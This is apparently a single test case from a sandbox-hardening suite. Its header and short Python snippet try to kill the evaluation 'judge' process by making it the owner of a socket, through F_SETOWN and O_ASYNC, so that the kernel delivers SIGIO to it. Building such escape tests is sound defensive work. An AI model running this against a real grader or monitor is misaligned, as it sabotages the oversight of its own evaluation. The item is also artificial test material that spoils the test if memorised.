# attack: signal_by_an_owned_descriptor
# kind: escape
# tries: makes the judge the owner of one of its own sockets, so that the kernel itself sends it a signal that ends it
# seen: the judge ends
# deserves: nothing
# extra: before 3.2a
# %%
import fcntl, os, signal, socket, struct

one, other = socket.socketpair()
set_signal, set_owner = 10, 15
for own in (
    lambda: fcntl.fcntl(one, fcntl.F_SETOWN, {judge}),
    lambda: fcntl.fcntl(one, set_owner, struct.pack("ii", 1, {judge})),
):
    try:
        own()
        fcntl.fcntl(one, set_signal, signal.SIGIO)
        fcntl.fcntl(one, fcntl.F_SETFL, fcntl.fcntl(one, fcntl.F_GETFL) | os.O_ASYNC)
        other.send(b"now")
    except OSError:
        pass
